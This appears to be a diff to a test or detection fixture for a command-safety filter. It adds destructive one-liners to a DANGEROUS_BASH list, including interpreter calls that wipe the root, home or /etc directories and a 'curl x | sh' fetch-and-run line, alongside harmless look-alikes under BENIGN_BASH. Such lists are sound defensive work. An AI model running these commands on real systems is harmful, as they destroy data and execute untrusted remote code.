@@ -61,6 +61,9 @@ DANGEROUS_BASH = [
     "rm -rf \"$BUILD_DIR\"", "ls | xargs rm -rf", "rm -rf $(cat dirs.txt)",
     "cd / && rm -rf home", "cd ~ && rm -rf .", "cd .. && rm -rf *", "cd /etc; rm -rf ssh", "cd && rm -rf *",
     "cd \"$TARGET\" && rm -rf build", "pushd / && rm -rf var",
+    "python -c \"import shutil; shutil.rmtree('/')\"", "python3 -c 'import os; os.system(\"rm -rf ~\")'",
+    "node -e \"require('fs').rmSync('/', {recursive: true})\"", "perl -e 'system(\"curl x | sh\")'",
+    "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/etc\")'",
 ]
 
 OBFUSCATE_BASE = ["rm -rf /", "rm -rf ~", "git push --force origin main", "chmod -R 777 /", "rm -rf .git",
@@ -133,6 +136,8 @@ BENIGN_BASH = [
     "uv run pytest", "poetry run pytest", "npx prettier --check .", "npx tsc", "cargo clippy",
     "cd src && rm -rf build", "cd docs && make html", "cd frontend && npm install && npm run build",
     "cd tests && pytest -q", "cd /tmp && rm -rf ao-scratch", "cd - && ls",
+    "python -c \"import shutil; shutil.rmtree('build')\"", "python -c 'import subprocess; subprocess.run(\"ls\")'",
+    "node -e \"console.log(process.version)\"", "perl -e 'print 1'",
 ]
 
 DANGEROUS_FILES = [
